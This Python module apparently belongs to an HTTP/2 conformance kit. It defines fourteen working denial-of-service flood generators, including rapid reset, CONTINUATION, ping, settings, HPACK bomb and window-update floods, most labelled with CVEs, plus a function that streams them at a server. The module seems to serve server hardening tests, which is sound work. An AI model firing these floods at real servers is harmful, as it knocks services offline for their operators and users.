"""What a hostile client sends without end: frames that cost the server something and bring no request further
(RFC 9113 section 10.5, and the CVEs that are named). Each is played until the server ends the connection.

Imports the standard library and the kit only.
"""

from __future__ import annotations

import contextlib
import ssl
from collections.abc import Callable, Iterator

from conformance_kit.http2_wire import (
    END_HEADERS,
    END_STREAM,
    PADDED,
    Kind,
    Setting,
    Wire,
    data,
    frame,
    priority,
    reset,
    settings,
    window_update,
)

Flood = Callable[[Wire], Iterator[bytes]]
WRITE_BYTES = 64 * 1024  # frames go out in pieces of about this size


def play(wire: Wire, flood: Flood) -> None:
    """Send it, and read nothing. A server that ends the connection meanwhile, or reads no more, is done with it."""
    batch = bytearray()
    with contextlib.suppress(BrokenPipeError, ConnectionResetError, ssl.SSLError, TimeoutError):
        for piece in flood(wire):
            batch += piece
            if len(batch) > WRITE_BYTES:
                wire.socket.sendall(batch)
                batch.clear()
        wire.socket.sendall(batch)


def rapid_reset(wire: Wire) -> Iterator[bytes]:
    """CVE-2023-44487."""
    for n in range(1, 20_000, 2):
        yield wire.headers(n) + reset(n)


def made_to_reset(wire: Wire) -> Iterator[bytes]:
    """CVE-2025-8671: the server resets, and should have stopped the work too."""
    for n in range(1, 20_000, 2):
        yield wire.headers(n) + window_update(n, 0)


def continuation_flood(wire: Wire) -> Iterator[bytes]:
    """CVE-2024-27316."""
    yield frame(Kind.HEADERS, END_STREAM, 1, b"\x82")
    for _ in range(100_000):
        yield frame(Kind.CONTINUATION, 0, 1, b"\x00\x01a\x01b")


def empty_continuations(wire: Wire) -> Iterator[bytes]:
    yield frame(Kind.HEADERS, END_STREAM, 1)
    for _ in range(100_000):
        yield frame(Kind.CONTINUATION, 0, 1)


def ping_flood(wire: Wire) -> Iterator[bytes]:
    """CVE-2019-9512: answers that are never read."""
    for _ in range(50_000):
        yield frame(Kind.PING, 0, 0, bytes(8))


def settings_flood(wire: Wire) -> Iterator[bytes]:
    """CVE-2019-9515."""
    for n in range(50_000):
        yield settings((Setting.MAX_CONCURRENT_STREAMS, n))


def settings_bomb(wire: Wire) -> Iterator[bytes]:
    """Thousands of settings that nobody knows."""
    for n in range(0, 60_000, 30):
        yield settings(*[(16 + n + k, 1) for k in range(30)])


def priority_flood(wire: Wire) -> Iterator[bytes]:
    for n in range(1, 100_000, 2):
        yield priority(n, 0)


def empty_data(wire: Wire) -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield wire.headers(1, wire.post, end=False)
    for _ in range(50_000):
        yield data(1)


def padding_only(wire: Wire) -> Iterator[bytes]:
    yield wire.headers(1, wire.post, end=False)
    for _ in range(50_000):
        yield frame(Kind.DATA, PADDED, 1, b"\x03\0\0\0")


def unknown_frames(wire: Wire) -> Iterator[bytes]:
    for _ in range(50_000):
        yield frame(Kind.UNKNOWN, 0, 0, bytes(64))


def window_games(wire: Wire) -> Iterator[bytes]:
    """CVE-2019-9511: windows opened a byte at a time."""
    yield settings((Setting.INITIAL_WINDOW_SIZE, 0)) + wire.headers(1)
    for _ in range(50_000):
        yield window_update(1, 1) + window_update(0, 1)


def hpack_bomb(wire: Wire) -> Iterator[bytes]:
    """CVE-2016-6581."""
    yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, 1, wire.block([*wire.get, ("x", "y" * 3900)]))
    for n in range(3, 2000, 2):
        yield frame(Kind.HEADERS, END_HEADERS | END_STREAM, n, b"\xbe" * 16_000)


def data_on_closed(wire: Wire) -> Iterator[bytes]:
    yield wire.headers(1)
    for _ in range(50_000):
        yield data(1, b"x")


FLOODS = [
    rapid_reset,
    made_to_reset,
    continuation_flood,
    empty_continuations,
    ping_flood,
    settings_flood,
    settings_bomb,
    priority_flood,
    empty_data,
    padding_only,
    unknown_frames,
    window_games,
    hpack_bomb,
    data_on_closed,
]
